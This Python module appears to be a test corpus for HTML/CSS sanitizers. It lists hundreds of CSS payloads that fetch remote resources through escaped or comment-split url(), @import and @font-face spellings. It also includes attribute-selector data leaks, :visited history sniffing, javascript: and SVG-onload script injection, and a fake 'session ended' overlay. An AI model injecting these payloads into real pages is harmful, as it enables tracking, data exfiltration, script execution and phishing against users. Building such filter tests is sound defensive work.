"""Payloads in CSS: everything that can fetch, in every spelling and wrapping that a filter may overlook."""

_PROPERTY_NAMES = """
    background background-image list-style list-style-image cursor border-image border-image-source mask
    mask-image mask-border mask-border-source -webkit-mask -webkit-mask-image -webkit-mask-box-image
    -webkit-mask-box-image-source -webkit-border-image -webkit-box-reflect clip-path -webkit-clip-path filter
    -webkit-filter backdrop-filter shape-outside offset-path offset fill stroke marker marker-start marker-mid
    marker-end content quotes symbols border-color color-profile behavior -ms-behavior -moz-binding zoom src
    image-source cue cue-before play-during voice-family layout-grid accelerator -ms-filter -o-link
    -wap-marquee motion motion-path view-timeline animation-timeline overflow-anchor scroll-timeline
    object-view-box text-decoration-image ::before
"""

_VALUES = (
    "url({url}/a.png)",
    "url('{url}/a.png')",
    'url("{url}/a.png")',
    "url( '{url}/a.png' )",
    "URL({url}/a.png)",
    "url(//{host}/a.png)",
    "url(\\2f\\2f{host}/a.png)",
    "url(h\\74tp://{host}/a.png)",
    "\\75rl({url}/a.png)",
    "u\\72 l({url}/a.png)",
    "ur\\6c\t({url}/a.png)",
    "ur\\00006C({url}/a.png)",
    "u\\\nrl({url}/a.png)",
    "/**/url/**/({url}/a.png)",
    "url(/**/{url}/a.png)",
    "u/**/rl({url}/a.png)",
    "url/**//**/({url}/a.png)",
    "none,url/**/('{url}/a.png')",
    "image-set/**/('{url}/a.png' 1x)",
    "image-set(url/**/('{url}/a.png') 1x)",
    "url\\/**/({url}/a.png)",
    "url/*\\*/({url}/a.png)/**/",
    "url<!--({url}/a.png)-->",
    "url({url}/a.png",
    "url('{url}/a.png",
    "url({url}/a.png) url({url}/b.png), url({url}/c.png)",
    "none,url({url}/a.png)",
    "red url({url}/a.png)!important",
    "image-set('{url}/a.png' 1x)",
    "image-set(url({url}/a.png) 1x)",
    "-webkit-image-set(url({url}/a.png) 1x, '{url}/b.png' 2x)",
    "image-set(linear-gradient(red,red) 1x,'{url}/a.png' 2x)",
    "i\\6d age-set('{url}/a.png' 1x type('image/png'))",
    "cross-fade(url({url}/a.png), red, 50%)",
    "-webkit-cross-fade(url({url}/a.png),url({url}/b.png),50%)",
    "image('{url}/a.png')",
    "image(ltr '{url}/a.png',red)",
    "src('{url}/a.png')",
    "element(#x),url({url}/a.png)",
    "-moz-element(#x),url({url}/a.png)",
    "paint(x,'{url}/a.png'),url({url}/a.png)",
    "-webkit-canvas(x),url({url}/a.png)",
    "var(--x,url({url}/a.png))",
    "attr(data-x url),url({url}/a.png)",
    "env(x,url({url}/a.png))",
    "if(style(--x):none;else:url({url}/a.png))",
    "light-dark(url({url}/a.png),url({url}/b.png))",
    "expression(alert(1)) url({url}/a.png)",
    "exp/**/ression(alert(1));background:url({url}/a.png)",
    "url(javascript:{run})",
    "url(data:image/svg+xml,<svg/onload={run}>)",
    "url(data:text/html,<script>{run}</script>)",
    "url({url}/a.png format('x'))",
    "url({url}/a.png crossorigin(anonymous) referrerpolicy(unsafe-url))",
    "url(#x),url({url}/a.svg#x)",
    "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{url}/a.png'),url({url}/a.png)",
)

_WRAPPERS = (
    "@media all{%s}",
    "@media not print{@media screen{%s}}",
    "@supports (color:red){%s}",
    "@supports not (x:y){%s}",
    "@container (width>0){%s}",
    "@layer x{%s}",
    "@layer x;@layer x{@layer y{%s}}",
    "@scope (body){%s}",
    "@starting-style{%s}%s",
    "@media all{@supports (color:red){@layer x{@media screen{@supports (color:red){%s}}}}}",
    "@-moz-document url-prefix(){%s}%s",
    "@when media(all){%s}%s",
    "body{&{%s}p{%s}}",
    "body{@media all{%s}}",
    "<!-- %s -->",
    "@charset 'utf-7';%s",
    "@namespace 'x';@namespace h 'http://www.w3.org/1999/xhtml';h|p,%s",
    "}}}%s",
    "@x{}%s",
    "@x;%s",
    "a{b:'\n}%s",
    "/*/*/%s/**/",
    "/*\\*/%s/**/",
    "x{y:\\",
    "\ufeff%s",
    "@media all{%s",
)

IMPORTS = tuple(
    f"<style>{text}</style>"
    for text in (
        "@import '{url}/a.css';",
        '@import "{url}/a.css"',
        "@import url({url}/a.css);",
        "@import url('{url}/a.css') screen;",
        "@import url({url}/a.css",
        "@IMPORT'{url}/a.css'",
        "@import\t\n'{url}/a.css'",
        "@import/**/'{url}/a.css'",
        "@imp/**/ort '{url}/a.css';@/**/import '{url}/a.css';",
        "@import url/**/({url}/a.css);",
        "@imp\\6frt '{url}/a.css';",
        "@\\69mport '{url}/a.css';",
        "@\\0069 mport url({url}/a.css);",
        "@i\\mport '{url}/a.css';",
        "@import '//{host}/a.css';",
        "@import '\\2f\\2f{host}/a.css';",
        "@import u\\72l({url}/a.css);",
        "@import '{url}/a.css' layer(x) supports(color:red) all;",
        "@import '{url}/a.css' layer;",
        "@charset 'x';@import '{url}/a.css';",
        "@layer x;@import '{url}/a.css';",
        "<!-- @import '{url}/a.css'; -->",
        "<!--@import '{url}/a.css';",
        "/*x*/@import '{url}/a.css';",
        "\ufeff@import '{url}/a.css';",
        "@import 'data:text/css,@import \"{url}/a.css\"';",
        "@import url(data:text/css,p{background:url({url}/a.png)});",
        "@import src('{url}/a.css');",
        "@namespace x url({url}/a);@import '{url}/a.css';",
        "@font-face{font-family:x;src:url({url}/a.woff2)}body{font-family:x}",
        "@font-face{font-family:x;src:local(x),url('{url}/a.woff') format('woff')}*{font-family:x!important}",
        "@font-face{font-family:x;src:url({url}/a.ttf) tech(color-COLRv1)}*{font:9px x}",
        "@font-face{font-family:x;unicode-range:U+41;src:url({url}/41)}"
        "@font-face{font-family:x;unicode-range:U+30-39;src:url({url}/30)}*{font-family:x}</style><p>A 482913 A<style>",
        "@fo\\6et-face{font-family:x;\\73rc:url({url}/a)}*{font-family:x}",
        "@font-palette-values --x{base-palette:url({url}/a)}@counter-style x{system:cyclic;"
        "symbols:url({url}/a.png)}li{list-style:x}",
        "@property --x{syntax:'<url>';inherits:true;initial-value:url({url}/a.png)}p{background:var(--x)}",
        "@page{background:url({url}/a.png);@top-left{content:url({url}/b.png)}}",
        "@keyframes x{from{background:url({url}/a.png)}to{background:url({url}/b.png)}}p{animation:x 1s infinite}",
        "@-webkit-keyframes x{0%{list-style:url({url}/a.png)}}*{-webkit-animation:x 1s}",
        "@view-transition{navigation:auto;types:x}@position-try --x{background:url({url}/a.png)}p::before"
        "{content:url({url}/b.png)}",
        "@function --x(){result:url({url}/a.png)}p{background:--x()}",
        "@color-profile --x{src:url({url}/a.icc)}p{color:color(--x 1 0 0)}",
        "@document url({url}){p{background:url({url}/a.png)}}",
        "@viewport{width:9999px}p::first-line{background:url({url}/a.png)}",
    )
)

_RULE = "body,p{background:url({url}/a.png)}"
WRAPPED = tuple(f"<style>{wrapper.replace('%s', _RULE)}</style><p>x</p>" for wrapper in _WRAPPERS)

PROPERTIES = tuple(
    f"<p style=\"{name}:url({{url}}/a.svg#x)\">x</p><style>p,p::before{{{name}:url('{{url}}/b.svg#x')}}</style>"
    for name in _PROPERTY_NAMES.split()
)

VALUES = tuple(
    f"<style>p{{background:{value}}}</style><p data-x='{{url}}/x.png'>x</p>" for value in _VALUES
)

INLINE = tuple(
    '<p style="background-image:' + value.replace('"', "&quot;") + '">x</p>' for value in _VALUES
)

LEAKS = (
    "<style>a[href^='https']{background:url({url}/https)}</style><a href=https://x.example/token>x</a>",
    "<style>p[title*='2']{--x:url({url}/2)}p{background:var(--x)}</style><p title=1234>x</p>",
    "<p style='--x:url({url}/a.png);background:var(--x)'>x</p>",
    "<p style='--x:{url}/a.png;background:url(var(--x))'>x</p>",
    "<style>:root{--x:url({url}/a.png)}p{background:var(--x)}</style><p>x</p>",
    "<style>:has(p)>p{background:url({url}/a.png)}p:not(x):is(p){cursor:url({url}/b.png),auto}</style><p>x</p>",
    "<style>p::selection,p::marker,p::before{content:url({url}/a.png)}</style><p>x</p>",
    "<style>html,head,meta,title,style,base{display:block;background:url({url}/a.png)}</style>",
    "<style>a:visited{background:url({url}/visited)}a:link{background:url({url}/link-colour)}</style><a href=/>x</a>",
    "<style>:focus-within,:hover,:target{background:url({url}/a.png)}body{background:url({url}/b.png)}</style>x",
    "<style>p{overflow:auto;width:9px}p::-webkit-scrollbar{background:url({url}/a.png)}</style><p>xxxxxxxxxxxxxxxx</p>",
    "<style>div{container-type:size}@container (height>0){p{background:url({url}/a.png)}}</style><div><p>x</div>",
    "<style>p{width:99px;background:url({url}/a.png)}@media (width:1280px){p{background:url({url}/1280)}}</style><p>x",
    "<style>@media (prefers-color-scheme:dark){p{background:url({url}/dark)}}@media (prefers-color-scheme:light)"
    "{p{background:url({url}/light)}}</style><p>x</p>",
    "<style>::view-transition{background:url({url}/a)}p{view-transition-name:x;background:url({url}/b)}</style><p>x",
    "<style>p{background:url({url}/a.png)\\9}p{*background:url({url}/b.png)}p{_background:url({url}/c)}</style><p>x",
    "<style>p{BACKGROUND\\3aurl({url}/a.png);\\62 ackground:url({url}/b.png)}</style><p>x</p>",
    "<style>p{b\\61ckground/**/:/**/url({url}/a.png)}</style><p>x</p>",
    "<style>p{color:red;{}background:url({url}/a.png)}</style><p>x</p>",
    "<style>p{color:red;}{}p{background:url({url}/a.png)}</style><p>x</p>",
    "<style>p{x:[;background:url({url}/a.png)]}p{y:(;background:url({url}/b.png))}</style><p style='{};'>x</p>",
    "<style>p{x:'\\\n';background:url({url}/a.png)}</style><p>x</p>",
    "<style>p{x:'\n;background:url({url}/a.png)}</style><p>x</p>",
    "<style>p{x:url(a b);background:url({url}/a.png)}p{x:url(a'b);background:url({url}/b.png)}</style><p>x</p>",
    "<style>p{x:\\\n;background:url({url}/a.png)}\0p{background:url({url}/b.png)}</style><p>x</p>",
    "<p style='color:red;;;background:url({url}/a.png)' STYLE='background:url({url}/b.png)'>x</p>",
    "<p style='background&#58;url({url}/a.png)'>x</p>",
    "<p style='background:&#117;rl({url}/a.png)'>x</p>",
    "<p style='background:url(&#104;ttp://{host}/a.png)'>x</p>",
    "<p style='position:fi/**/xed;posi/**/tion:fixed;position/**/:/**/fixed;top:0'>x</p>",
    "<p style='background/**/:url/**/(\\68ttp://{host}/a.png)'>x</p>",
    "<p style='/*' title='*/background:url({url}/a.png)/*'>x</p><p style='/**/background:url({url}/b.png)'>x</p>",
    "<p style='background:\\000075\\000072\\00006c({url}/a.png)'>x</p>",
    "<p style=background:url({url}/a.png)>x</p>",
    "<p style='x:y}p{background:url({url}/a.png)}x{'>x</p><p style='all:unset;background:url({url}/b.png)'>x</p>",
    "<p style='@import \"{url}/a.css\";background:url({url}/a.png)'>x</p>",
    "<p style='{background:url({url}/a.png)}'>x</p><p style=';background:url({url}/b.png)'>x</p>",
    "<p style='&{background:url({url}/a.png)}'>x</p><p style='background:url({url}/b.png);}'>x</p>",
    "<style type=text/css media=print,all>p{background:url({url}/a.png)}</style><p>x</p>",
    "<style type=text/less>p{background:url({url}/a.png)}</style><style TYPE=TEXT/CSS>p{cursor:url({url}/b)}</style>"
    "<p style='background:url({url}/c.png)'>x</p>",
    "<style><style>p{background:url({url}/a.png)}</style><p>x</p></style>",
    "<style>p{background:url({url}/a.png)}",
    "<font style='background:url({url}/a.png)' color='url({url}/b.png)' face='url({url}/c.png)'>x</font>",
    "<table style='background:url({url}/a.png)' bgcolor='url({url}/b.png)'><td style='cursor:url({url}/c)'>x</table>",
    "<hr style='background:url({url}/a.png)'><br style='content:url({url}/b.png)'><ol style='list-style:url({url}/c)'>"
    "<li>x</ol>",
    "<p style='position:fixed;inset:0;z-index:2147483647;background:url({url}/a.png)'>Your session has ended</p>",
    "<p style='position:sticky;top:-9999px;background:url({url}/a.png)'>x</p><p style='top:0;position:-webkit-sticky'>",
    "<p style='-webkit-user-modify:read-write;user-select:none;pointer-events:none;cursor:url({url}/a.cur),none'>x</p>",
)
